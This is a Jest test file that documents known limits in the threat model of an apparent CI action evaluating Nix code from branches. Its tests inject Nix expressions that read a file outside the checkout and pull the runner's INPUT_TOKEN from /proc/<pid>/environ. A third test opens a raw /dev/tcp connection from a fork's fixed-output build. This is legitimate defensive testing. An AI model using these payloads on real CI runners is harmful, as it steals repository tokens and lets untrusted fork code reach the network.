import { mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { makeWorld, token, type World } from '../support/scenario/world.ts';
import { config, type InnerServer, lockHosts, startInner } from './support/inner-server.ts';
import { minutes } from './support/world.ts';

// What docs/threat-model.md says is not prevented. If one of these fails, a limit is gone: say so
// there.

let world: World;
let inner: InnerServer;
beforeAll(async () => {
  inner = await startInner();
  world = await makeWorld();
}, 2 * minutes);
afterAll(async () => {
  await inner?.close();
  await world?.close();
});

/** Puts a Nix expression in the place of the package's version. */
const versioned =
  (expression: string) =>
  async (workspace: string): Promise<void> => {
    const file = path.join(workspace, 'default.nix');
    const text = await readFile(file, 'utf8');
    await writeFile(
      file,
      text.replace('version = "1.0";', () => `version = ${expression};`),
    );
  };

describe('Nix evaluates code of a branch as the user of the runner', () => {
  test('it can read a file outside of the checkout', async () => {
    const file = path.join(world.dir, 'of-the-user');
    await writeFile(file, 'canary-of-the-user');
    const acted = await world.act({ prepare: versioned(`throw (builtins.readFile ${file})`) });
    expect(acted.log).toContain('canary-of-the-user');
  });

  test('in a workflow of one job it can read the token', async () => {
    const prepare = versioned(`
      let
        read = name: builtins.fetchurl "file:///proc/\${name}";
        fields = builtins.filter builtins.isString (builtins.split " " (builtins.readFile (read "self/stat")));
      in throw "found ''\${read "\${builtins.elemAt fields 3}/environ"}''"`);
    const acted = await world.act({ prepare });
    const found = /found ''?(\/nix\/store\/[a-z0-9]{32}-environ)/.exec(acted.log)?.[1] ?? '';
    expect(await readFile(found, 'latin1')).toContain(`INPUT_TOKEN=${token}`);
  });
});

test("the builder of a fork's fixed-output derivation has the network of the machine", async () => {
  const { work } = world.repository;
  await mkdir(path.join(work, '.github'), { recursive: true });
  await writeFile(path.join(work, '.github/uv-fod.toml'), config(await lockHosts(work)));
  const base = await world.repository.push('The hosts that may be fetched from');
  const prepare = async (workspace: string): Promise<void> => {
    const file = path.join(workspace, 'default.nix');
    const text = await readFile(file, 'utf8');
    const [host, port] = inner.host.split(':');
    const ask = `exec 3<>/dev/tcp/${host}/${port}; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 >$out`;
    const hello = `pkgs.runCommand "hello-${port}" {
      outputHash = "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAE=";
      outputHashMode = "recursive";
    } ${JSON.stringify(ask).replaceAll('$', '\\$')}`;
    await writeFile(
      file,
      text.replace('pname = "small";', () => `pname = "small"; postInstall = "echo \${${hello}}";`),
    );
  };
  const pull = { base: { sha: base, ref: 'main' }, head: { ref: 'patch-1', repo: null } };
  await world.act({
    prepare,
    inputs: { mode: 'compute', token: '', attribute: '' },
    step: { eventName: 'pull_request', ref: 'refs/pull/7/merge', event: { pull_request: pull } },
  });
  expect(inner.asked.length).toBeGreaterThan(0);
});
